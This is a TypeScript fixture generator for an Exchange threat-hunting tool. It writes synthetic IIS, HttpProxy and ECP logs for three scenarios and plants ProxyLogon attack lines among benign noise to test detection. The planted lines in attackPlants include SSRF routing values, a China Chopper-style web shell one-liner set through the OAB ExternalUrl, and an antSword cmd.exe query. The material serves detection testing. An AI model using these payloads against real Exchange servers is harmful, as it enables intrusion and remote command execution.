/**
 * @module scripts/hunt/example-evidence
 * Deterministic triage copies (KAPE layout, drive C) for the examples, tests and demos of
 * `exhunt hunt`: thousands of benign lines from the parsers' generators with a few planted attack
 * lines, in three scenarios:
 *
 * - `compromised-2016-cu19`: Exchange 2016 CU19 (15.1.2176.2) exploited through ProxyLogon on
 *   2021-01-06 (SSRF, ResetOABVirtualDirectory, OAB ExternalUrl web shell, China Chopper use),
 *   patched (15.1.2176.9) on 2021-03-05, and the web shell still answering POSTs in April 2021.
 * - `benign-noisy`: same server and period, no attack, but scanners, crawlers, health probes and
 *   WinRM sessions that look alike.
 * - `late-logs`: clean logs that start 2021-03-20 on a server unpatched until then.
 *
 * `scale` multiplies the benign lines (for larger demos; the benchmark uses the parsers' corpus
 * writer instead).
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import {
  ecpServerLines,
  httpProxyLines,
  iisLines,
  type PlantedLine,
} from '../../src/parsers/testing/index.js';

export type Scenario = 'compromised-2016-cu19' | 'benign-noisy' | 'late-logs';
export const SCENARIOS: readonly Scenario[] = ['compromised-2016-cu19', 'benign-noisy', 'late-logs'];

const INSTALL = 'C/Program Files/Microsoft/Exchange Server/V15';
const IIS = 'C/inetpub/logs/LogFiles/W3SVC1';
const DAY = 86_400_000;
const VULNERABLE = '15.1.2176.2';
const PATCHED = '15.1.2176.9';
const ATTACKER = '203.0.113.7';
const SHELL_USER = '198.51.100.23';

const t = (iso: string): number => Date.parse(iso);
const ymd = (ms: number): string => new Date(ms).toISOString().slice(0, 10).replace(/-/g, '');

interface Period {
  from: number;
  days: number;
  /** When the SU was installed (build change), or null. */
  patchAt: number | null;
}

/** Index of the data line at `when` in a file starting at `start` with step `stepMs`. */
const lineAt = (when: number, start: number, stepMs: number): number =>
  Math.max(0, Math.floor((when - start) / stepMs));

export interface WriteOptions {
  scale?: number;
}

/** Write one scenario under `dir`; returns the files written (relative paths). */
export function writeScenario(dir: string, scenario: Scenario, options: WriteOptions = {}): string[] {
  const scale = Math.max(1, Math.floor(options.scale ?? 1));
  const period: Period =
    scenario === 'late-logs'
      ? { from: t('2021-03-20T00:00:00Z'), days: 14, patchAt: t('2021-03-20T12:00:00Z') }
      : { from: t('2020-12-28T00:00:00Z'), days: 112, patchAt: t('2021-03-05T02:00:00Z') };
  const written: string[] = [];
  const write = (rel: string, lines: Iterable<string>): void => {
    const abs = path.join(dir, rel);
    mkdirSync(path.dirname(abs), { recursive: true });
    writeFileSync(abs, [...lines].join(''));
    written.push(rel);
  };
  const plantsFor =
    scenario === 'compromised-2016-cu19'
      ? attackPlants
      : scenario === 'benign-noisy'
        ? noisePlants
        : () => [];
  // One file per log per week (Exchange rolls by hour or size; a week keeps the example small).
  for (let d = 0; d < period.days; d += 7) {
    const start = period.from + d * DAY;
    const span = Math.min(7, period.days - d) * DAY;
    const seed = d + 1;
    const spread = (lines: number) => ({ lines, stepMs: Math.floor(span / lines) });
    for (const protocol of ['Owa', 'Ecp', 'Autodiscover', 'Ews']) {
      const { lines, stepMs } = spread((protocol === 'Owa' ? 60 : 20) * scale);
      const change = period.patchAt !== null && period.patchAt >= start && period.patchAt < start + span;
      const build = period.patchAt !== null && start >= period.patchAt ? PATCHED : VULNERABLE;
      write(
        `${INSTALL}/Logging/HttpProxy/${protocol}/HttpProxy_${ymd(start)}00-1.LOG`,
        httpProxyLines({
          lines,
          stepMs,
          start,
          seed: seed * 31 + protocol.length,
          protocol,
          build,
          ...(change
            ? { buildChange: { at: lineAt(period.patchAt as number, start, stepMs), build: PATCHED } }
            : {}),
          plant: plantsFor({ log: `httpproxy/${protocol}`, start, stepMs, span }),
        }),
      );
    }
    const iis = spread(120 * scale);
    write(
      `${IIS}/u_ex${ymd(start).slice(2)}.log`,
      iisLines({
        ...iis,
        start,
        seed: seed * 7,
        plant: plantsFor({ log: 'iis', start, stepMs: iis.stepMs, span }),
      }),
    );
    const ecp = spread(15 * scale);
    write(
      `${INSTALL}/Logging/ECP/Server/ECPServer${ymd(start)}00-1.LOG`,
      ecpServerLines({
        ...ecp,
        start,
        seed: seed * 13,
        plant: plantsFor({ log: 'ecp', start, stepMs: ecp.stepMs, span }),
      }),
    );
  }
  return written;
}

interface FileSlot {
  log: string;
  start: number;
  stepMs: number;
  /** Time the file covers. */
  span: number;
}

/** Planted lines whose time falls inside this file (its day, or its week for ECP). */
function within(
  slot: FileSlot,
  items: { at: string; log: string; fields: (ms: number) => Record<string, string> }[],
): PlantedLine[] {
  const out: PlantedLine[] = [];
  const used = new Set<number>();
  for (const it of items) {
    const ms = t(it.at);
    if (it.log !== slot.log || ms < slot.start || ms >= slot.start + slot.span) continue;
    // Two plants in one step of the benign lines would replace each other: take the next line.
    let at = lineAt(ms, slot.start, slot.stepMs);
    while (used.has(at)) at++;
    used.add(at);
    out.push({ at, fields: it.fields(ms) });
  }
  return out;
}

const iisTime = (ms: number): Record<string, string> => {
  const iso = new Date(ms).toISOString();
  return { date: iso.slice(0, 10), time: iso.slice(11, 19) };
};

function attackPlants(slot: FileSlot): PlantedLine[] {
  const proxy =
    (anchor: string, status = '200') =>
    (ms: number) => ({
      DateTime: new Date(ms).toISOString(),
      UrlStem: '/ecp/y.js',
      AuthenticatedUser: '',
      IsAuthenticated: 'False',
      AnchorMailbox: anchor,
      RoutingHint: 'X-BEResource-Cookie',
      UserAgent: 'ExchangeServicesClient/0.0.0.0',
      ClientIpAddress: ATTACKER,
      HttpStatus: status,
      Method: 'POST',
    });
  const iis =
    (method: string, stem: string, query: string, ip: string, ua: string, status = '200') =>
    (ms: number) => ({
      ...iisTime(ms),
      'cs-method': method,
      'cs-uri-stem': stem,
      'cs-uri-query': query,
      'cs-username': '-',
      'c-ip': ip,
      'cs(User-Agent)': ua,
      'sc-status': status,
    });
  const shell = '/aspnet_client/system_web/errorEE.aspx';
  const items = [
    {
      at: '2021-01-06T05:11:02Z',
      log: 'httpproxy/Autodiscover',
      fields: proxy('ServerInfo~a]@EX01.contoso.local:444/autodiscover/autodiscover.xml?#', '200'),
    },
    {
      at: '2021-01-06T05:11:15Z',
      log: 'httpproxy/Ecp',
      fields: proxy('ServerInfo~a]@EX01.contoso.local:444/mapi/emsmdb?#', '200'),
    },
    {
      at: '2021-01-06T05:12:01Z',
      log: 'httpproxy/Ecp',
      fields: proxy(
        'ServerInfo~a]@EX01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetOABVirtualDirectory#',
      ),
    },
    {
      at: '2021-01-06T05:11:15Z',
      log: 'iis',
      fields: iis('POST', '/ecp/y.js', '-', ATTACKER, 'ExchangeServicesClient/0.0.0.0'),
    },
    {
      at: '2021-01-06T05:11:40Z',
      log: 'ecp',
      fields: (ms: number) => ({
        TimeStamp: new Date(ms).toISOString(),
        EventData:
          'S:ActID=4f1e;S:RS=0;S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>\'.Identity=\'OAB (Default Web Site)\';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory',
      }),
    },
    { at: '2021-01-06T05:20:00Z', log: 'iis', fields: iis('POST', shell, '-', ATTACKER, 'antSword/v2.1') },
    {
      at: '2021-01-06T07:30:00Z',
      log: 'iis',
      fields: iis(
        'POST',
        shell,
        'z1=cmd.exe+/c+cd+/d+C:/inetpub/wwwroot/aspnet_client&whoami&echo+[S]&cd&echo+[E]',
        ATTACKER,
        'antSword/v2.1',
      ),
    },
    {
      at: '2021-04-10T22:03:00Z',
      log: 'iis',
      fields: iis('POST', shell, '-', SHELL_USER, 'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)'),
    },
  ];
  return within(slot, items);
}

function noisePlants(slot: FileSlot): PlantedLine[] {
  const items: { at: string; log: string; fields: (ms: number) => Record<string, string> }[] = [];
  // Every few days: a version scanner, a crawler, a health probe and an RPS session through WinRM.
  for (let d = 0; d < 112; d += 3) {
    const day = new Date(t('2020-12-28T00:00:00Z') + d * DAY).toISOString().slice(0, 10);
    items.push(
      {
        at: `${day}T03:00:00Z`,
        log: 'iis',
        fields: (ms) => ({
          ...iisTime(ms),
          'cs-method': 'GET',
          'cs-uri-stem': '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application',
          'cs-uri-query': '-',
          'c-ip': '192.0.2.50',
          'cs(User-Agent)': 'Mozilla/5.0+zgrab/0.x',
          'sc-status': '200',
        }),
      },
      {
        at: `${day}T04:00:00Z`,
        log: 'iis',
        fields: (ms) => ({
          ...iisTime(ms),
          'cs-method': 'GET',
          'cs-uri-stem': '/owa/',
          'cs-uri-query': '-',
          'c-ip': '192.0.2.66',
          'cs(User-Agent)': 'Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)',
          'sc-status': '302',
        }),
      },
      {
        at: `${day}T05:00:00Z`,
        log: 'iis',
        fields: (ms) => ({
          ...iisTime(ms),
          'cs-method': 'POST',
          'cs-uri-stem': '/owa/HealthMailbox6e1a0f@contoso.com/powershell',
          'cs-uri-query': '-',
          'cs-username': 'CONTOSO\\HealthMailbox6e1a0f',
          'c-ip': '10.0.0.10',
          'cs(User-Agent)': 'Microsoft+WinRM+Client',
          'sc-status': '200',
        }),
      },
      {
        at: `${day}T06:00:00Z`,
        log: 'httpproxy/Ecp',
        fields: (ms) => ({
          DateTime: new Date(ms).toISOString(),
          UrlStem: '/ecp/',
          AnchorMailbox: 'ServerInfo~localhost/ecp/',
          AuthenticatedUser: 'CONTOSO\\HealthMailbox6e1a0f',
          UserAgent: 'AMProbe/Local/ClientAccess',
          ClientIpAddress: '10.0.0.10',
        }),
      },
      {
        at: `${day}T07:00:00Z`,
        log: 'iis',
        fields: (ms) => ({
          ...iisTime(ms),
          'cs-method': 'POST',
          'cs-uri-stem': '/owa/auth.owa',
          'cs-uri-query': '-',
          'c-ip': '10.0.3.4',
          'cs(User-Agent)': 'Mozilla/5.0',
          'sc-status': '302',
        }),
      },
    );
  }
  return within(slot, items);
}
